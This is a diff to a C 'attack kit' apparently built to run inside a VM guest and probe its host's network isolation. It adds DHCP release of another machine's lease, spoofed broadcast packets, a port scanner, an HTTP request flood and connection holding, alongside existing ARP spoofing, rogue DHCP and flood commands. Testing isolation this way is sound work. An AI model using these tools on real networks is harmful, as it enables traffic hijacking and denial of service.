@@ -2,21 +2,28 @@
  * What a hostile guest's root can send that no ordinary tool sends: frames and packets of its own making. One attack a
  * call; built as a static program and carried into the guest in its user_data (attack-kit.ts).
  *
- *   attack arp-claim COUNT IP TARGET-MAC          ARP answers "IP is at my MAC", to TARGET-MAC
- *   attack ip-from SOURCE-IP DEST-IP PORT COUNT TEXT   UDP packets with another's source address
+ *   attack arp-claim COUNT IP TARGET-MAC          ARP answers "IP is at my MAC", to TARGET-MAC ("host": the factory's)
+ *   attack ip-from SOURCE-IP DEST-IP PORT COUNT TEXT   UDP packets with another's source address; by broadcast to
+ *                                                 255.255.255.255
  *   attack mac-from SOURCE-MAC DEST-MAC COUNT     IP frames with another's source MAC
  *   attack dhcp-serve COUNT                       offers of a DHCP server, to everybody
- *   attack dhcp-flood COUNT                       discovers with random client addresses
+ *   attack dhcp-release COUNT IP MAC              gives up another's lease
+ *   attack dhcp-flood COUNT                       discovers with random client addresses, each other one in a frame of
+ *                                                 its own
  *   attack ethertype TYPE DEST-MAC COUNT          frames of another protocol (hexadecimal)
  *   attack udp-flood DEST-IP PORT COUNT TEXT      ordinary datagrams as fast as they go; "%d" in TEXT is counted
  *   attack flows COUNT                            one datagram each to COUNT addresses outside
  *   attack tcp [-b SOURCE-IP] DEST-IP PORT SECONDS [TEXT]   connects and says what happened: open, closed, silent;
- *                                                 with TEXT sends it and prints what comes back
+ *                                                 with TEXT sends it, as lines of the Internet, and prints what comes back
+ *   attack scan DEST-IP SECONDS PORT...           connects to all at once and says which are open
+ *   attack requests DEST-IP PORT COUNT SECONDS PATH   HTTP requests for PATH by one connection, as fast as they go; counts
+ *                                                 the answers by status
  *   attack udp DEST-IP PORT SECONDS TEXT          sends it and prints "answered BYTES" or "silent"
- *   attack hold DEST-IP PORT COUNT SECONDS TEXT   that many connections, each of which says TEXT and no more
+ *   attack hold DEST-IP PORT COUNT SECONDS TEXT   that many connections, each of which says TEXT and no more; how many are
+ *                                                 there after that time
  *   attack forks COUNT SECONDS                    children that compute
  *
- * All but tcp, udp and hold print how many the kernel took ("sent N").
+ * All but tcp, scan, requests, udp and hold print how many the kernel took ("sent N").
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -60,8 +67,11 @@ static void open_frames(void) {
   out.sll_halen = 6;
 }
 
+static void host_mac(unsigned char *mac);
+
 static void mac_of(const char *text, unsigned char *mac) {
   unsigned int part[6];
+  if (!strcmp(text, "host")) return host_mac(mac);
   if (sscanf(text, "%x:%x:%x:%x:%x:%x", part, part + 1, part + 2, part + 3, part + 4, part + 5) != 6) die(text);
   for (int i = 0; i < 6; i++) mac[i] = part[i];
 }
@@ -143,7 +153,7 @@ static int ip_from(const char *from, const char *to, int port, int count, const 
   unsigned char frame[2048], mac[6];
   int sent = 0;
   host_mac(mac);
-  header(frame, mac, own_mac, ETH_P_IP);
+  header(frame, strcmp(to, "255.255.255.255") ? mac : everybody, own_mac, ETH_P_IP);
   int length = datagram(frame, from, to, 4000, port, text, strlen(text));
   for (int i = 0; i < count; i++) sent += send_frame(frame, length);
   return sent;
@@ -185,6 +195,19 @@ static int dhcp_serve(int count) {
     length = datagram(frame, "169.254.169.253", "255.255.255.255", 67, 68, message, length);
     sent += send_frame(frame, length);
   }
+  return sent;
+}
+
+static int dhcp_release(int count, const char *ip, const char *mac) {
+  unsigned char frame[2048], message[300], client[6];
+  in_addr_t address = inet_addr(ip);
+  int sent = 0;
+  mac_of(mac, client);
+  int length = dhcp(message, 1, 7, client);
+  memcpy(message + 12, &address, 4);
+  header(frame, everybody, own_mac, ETH_P_IP);
+  length = datagram(frame, "0.0.0.0", "255.255.255.255", 68, 67, message, length);
+  for (int i = 0; i < count; i++) sent += send_frame(frame, length);
   return sent;
 }
 
@@ -246,6 +269,77 @@ static int ready(int socket_, short events, int seconds) {
   return poll(&wanted, 1, seconds * 1000) > 0;
 }
 
+static double seconds_now(void) {
+  struct timespec now;
+  clock_gettime(CLOCK_MONOTONIC, &now);
+  return now.tv_sec + now.tv_nsec / 1e9;
+}
+
+/* A socket that does not wait until it is connected. */
+static int connecting(const char *to, int port) {
+  struct sockaddr_in target = address_of(to, port);
+  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
+  fcntl(socket_, F_SETFL, O_NONBLOCK);
+  connect(socket_, (struct sockaddr *)&target, sizeof target);
+  return socket_;
+}
+
+/* Whether a socket that was connecting is connected. */
+static int is_open(int socket_) {
+  int error = 0;
+  socklen_t size = sizeof error;
+  return ready(socket_, POLLOUT, 0) && !getsockopt(socket_, SOL_SOCKET, SO_ERROR, &error, &size) && !error;
+}
+
+static int scan(const char *to, int seconds, char **ports, int count) {
+  int sockets[64], open_ = 0;
+  for (int i = 0; i < count && i < 64; i++) sockets[i] = connecting(to, atoi(ports[i]));
+  sleep(seconds);
+  printf("open");
+  for (int i = 0; i < count && i < 64; i++) {
+    if (is_open(sockets[i])) open_ += printf(" %s", ports[i]);
+  }
+  return puts(open_ ? "" : " none");
+}
+
+static int requests(const char *to, int port, int count, int seconds, const char *path) {
+  char request[512], answer[65536];
+  int of_status[600] = {0}, left = count, answered = 0, kept = 0, socket_ = connecting(to, port);
+  int length = snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", path, to), at = 0;
+  double end = seconds_now() + seconds;
+  signal(SIGPIPE, SIG_IGN);
+  while (seconds_now() < end) {
+    /* More than a few at once end the connection. */
+    int may = left > 0 && count - left - answered < 8;
+    struct pollfd wanted = {.fd = socket_, .events = POLLIN | (may ? POLLOUT : 0)};
+    poll(&wanted, 1, 1000);
+    if (answered == count) break;
+    if (may && wanted.revents & POLLOUT) {
+      int taken = write(socket_, request + at, length - at);
+      if (taken < 0 && errno != EAGAIN) break;
+      if (taken > 0 && (at += taken) == length) at = 0, left--;
+    }
+    if (!(wanted.revents & (POLLIN | POLLHUP | POLLERR))) continue;
+    int got = read(socket_, answer + kept, sizeof answer - 1 - kept);
+    if (got <= 0) break;
+    answer[kept + got] = 0;
+    /* What may be half of a status line is kept for the next round. */
+    char *rest = answer, *found;
+    while ((found = strstr(rest, "HTTP/1.1 ")) && strlen(found) >= 12) {
+      int status = atoi(found + 9);
+      if (status > 0 && status < 600) of_status[status]++, answered++;
+      rest = found + 12;
+    }
+    kept = strlen(rest) < 12 ? strlen(rest) : 12;
+    memmove(answer, rest + strlen(rest) - kept, kept);
+  }
+  for (int status = 0; status < 600; status++) {
+    if (of_status[status]) printf("%d: %d, ", status, of_status[status]);
+    count -= of_status[status];
+  }
+  return printf("not answered: %d\n", count);
+}
+
 static int tcp(const char *from, const char *to, int port, int seconds, const char *text) {
   struct sockaddr_in target = address_of(to, port);
   int socket_ = socket(AF_INET, SOCK_STREAM, 0), error = 0;
@@ -261,10 +355,10 @@ static int tcp(const char *from, const char *to, int port, int seconds, const ch
   if (!error) getsockopt(socket_, SOL_SOCKET, SO_ERROR, &error, &size);
   if (error) return error == ETIMEDOUT || error == EHOSTUNREACH ? puts("silent") : puts("closed");
   if (!text) return puts("open");
-  for (const char *rest = text; *rest;) {
-    int taken = write(socket_, rest, strlen(rest));
-    if (taken > 0) rest += taken;
-    else if (!ready(socket_, POLLOUT, seconds)) return puts("silent");
+  for (const char *rest = text; *rest; rest++) {
+    /* It is little, and there is room for it. */
+    if (*rest == '\n' && write(socket_, "\r", 1) != 1) return puts("closed");
+    if (write(socket_, rest, 1) != 1) return puts("closed");
   }
   while (ready(socket_, POLLIN, seconds)) {
     int got = read(socket_, answer, sizeof answer);
@@ -284,25 +378,20 @@ static int udp(const char *to, int port, int seconds, const char *text) {
 }
 
 static int hold(const char *to, int port, int count, int seconds, const char *text) {
-  struct sockaddr_in target = address_of(to, port);
-  int *sockets = calloc(count, sizeof *sockets), open_ = 0;
+  int *sockets = calloc(count, sizeof *sockets), *told = calloc(count, sizeof *told), held = 0;
+  double end = seconds_now() + seconds;
   char byte;
   signal(SIGPIPE, SIG_IGN);
-  for (int i = 0; i < count; i++) {
-    sockets[i] = socket(AF_INET, SOCK_STREAM, 0);
-    fcntl(sockets[i], F_SETFL, O_NONBLOCK);
-    connect(sockets[i], (struct sockaddr *)&target, sizeof target);
-  }
-  for (int passed = 0; passed < seconds; passed++) {
-    open_ = 0;
+  for (int i = 0; i < count; i++) sockets[i] = connecting(to, port);
+  do {
+    held = 0;
     for (int i = 0; i < count; i++) {
-      if (passed == 0 && !ready(sockets[i], POLLOUT, 1)) continue;
-      if (passed == 0 && write(sockets[i], text, strlen(text)) < 0) continue;
-      open_ += recv(sockets[i], &byte, 1, MSG_PEEK) < 0 && errno == EAGAIN;
+      if (!told[i] && is_open(sockets[i])) told[i] = write(sockets[i], text, strlen(text)) > 0;
+      held += told[i] && recv(sockets[i], &byte, 1, MSG_PEEK) < 0 && errno == EAGAIN;
     }
-    sleep(1);
-  }
-  return printf("held %d\n", open_);
+    usleep(200000);
+  } while (seconds_now() < end);
+  return printf("held %d\n", held);
 }
 
 static int forks(int count, int seconds) {
@@ -331,6 +420,8 @@ int main(int argc, char **argv) {
     tcp(bound ? argv[3] : NULL, rest[0], atoi(rest[1]), atoi(rest[2]), argc > 5 + 2 * bound ? rest[3] : NULL);
     return 0;
   }
+  if (IS("scan", 3)) return scan(argv[2], atoi(argv[3]), argv + 4, argc - 4) < 0;
+  if (IS("requests", 5)) return requests(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]), argv[6]) < 0;
   if (IS("udp", 4)) return udp(argv[2], atoi(argv[3]), atoi(argv[4]), argv[5]) < 0;
   if (IS("hold", 5)) return hold(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]), argv[6]) < 0;
   if (IS("udp-flood", 4)) sent = udp_flood(argv[2], atoi(argv[3]), atoi(argv[4]), argv[5]);
@@ -342,6 +433,7 @@ int main(int argc, char **argv) {
     if (IS("ip-from", 5)) sent = ip_from(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]), argv[6]);
     if (IS("mac-from", 3)) sent = mac_from(argv[2], argv[3], atoi(argv[4]));
     if (IS("dhcp-serve", 1)) sent = dhcp_serve(atoi(argv[2]));
+    if (IS("dhcp-release", 3)) sent = dhcp_release(atoi(argv[2]), argv[3], argv[4]);
     if (IS("dhcp-flood", 1)) sent = dhcp_flood(atoi(argv[2]));
     if (IS("ethertype", 3)) sent = ethertype(strtol(argv[2], NULL, 16), argv[3], atoi(argv[4]));
   }
